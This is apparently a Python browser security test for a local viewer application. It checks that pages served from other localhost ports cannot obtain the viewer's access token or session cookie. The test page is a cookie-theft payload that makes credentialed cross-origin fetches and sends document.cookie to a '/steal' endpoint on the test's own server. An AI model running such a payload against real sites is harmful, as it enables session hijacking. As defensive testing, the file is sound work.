"""Pages that other servers of this machine serve get nothing that opens the viewer: cookies know no port."""

from __future__ import annotations

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.browser.conftest import address, exam_runs
from tests.viewer.conftest import TOKEN, serving

PAGE = """<!doctype html><title>foreign</title><script>
const targets = {targets};
const tried = targets.flatMap(url => [
  fetch(url, {{credentials: "include"}}).then(answer => answer.text()),
  fetch(url, {{mode: "no-cors", credentials: "include"}}).then(answer => answer.text()),
  fetch(url, {{redirect: "manual", credentials: "include"}}).then(answer => [...answer.headers] + answer.url),
]);
Promise.allSettled([...tried, fetch("/steal?" + encodeURIComponent(document.cookie))]).then(all => {{
  window.learnt = JSON.stringify(all.map(each => each.value ?? String(each.reason)))
    + document.referrer + document.cookie + JSON.stringify(performance.getEntries().map(entry => entry.name));
}});
</script>"""


class ForeignServer(BaseHTTPRequestHandler):
    """A server of somebody else on another port of this machine, which notes all that it is sent."""

    def do_GET(self):
        self.server.noted.append(f"{self.path}\n{self.headers}")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        targets = [f"http://{host}:{self.server.viewer}/" for host in ("127.0.0.1", "localhost", "a.localhost")]
        self.wfile.write(PAGE.format(targets=targets).encode())

    def log_message(self, *_):
        pass


@contextmanager
def foreign_server(viewer):
    server = ThreadingHTTPServer(("127.0.0.1", 0), ForeignServer)
    server.noted, server.viewer = [], viewer.port
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_no_page_of_another_port_gets_what_opens_the_viewer(tmp_path, browse):
    exam_runs(tmp_path)
    with serving(tmp_path / "exam.db") as viewer, foreign_server(viewer) as foreign:
        port, access = foreign.server_address[1], viewer.access
        secrets = [TOKEN, access.own_host, access.cookie, access.cookie_value(access.own_host), "Exam"]

        async def visit(page):
            titles = [await page.tab.title()]
            learnt = ""
            for host in ("127.0.0.1", "localhost", "a.localhost", "steelyard.localhost"):
                url = f"http://{host}:{port}/"
                await page.tab.goto(url)
                learnt += await page.until("window.learnt")
                # From a page of the viewer, too: neither its address nor its cookie goes along.
                await page.tab.goto(address(viewer, "/"))
                titles.append(await page.tab.title())
                await page.run(f"window.open({url!r}, '_self'), 0")
                learnt += await page.until("window.learnt")
            await page.tab.goto(f"http://{access.own_host}:{port}/")
            return titles, learnt

        titles, learnt = browse(f"http://127.0.0.1:{viewer.port}/?token={TOKEN}", visit)
    assert set(titles) == {"Runs · Steelyard"}
    # By host, not by order: the browser asks for an icon whenever it likes.
    own = [request for request in foreign.noted if f"Host: {access.own_host}:" in request]
    sent = "\n".join(request for request in foreign.noted if request not in own)
    assert sent.count("/steal") >= 8
    assert [secret for secret in secrets if secret in sent + learnt] == []
    # Who knows the host name would be sent the cookie: that it cannot be guessed is what protects.
    assert access.cookie_value(access.own_host) in own[0]
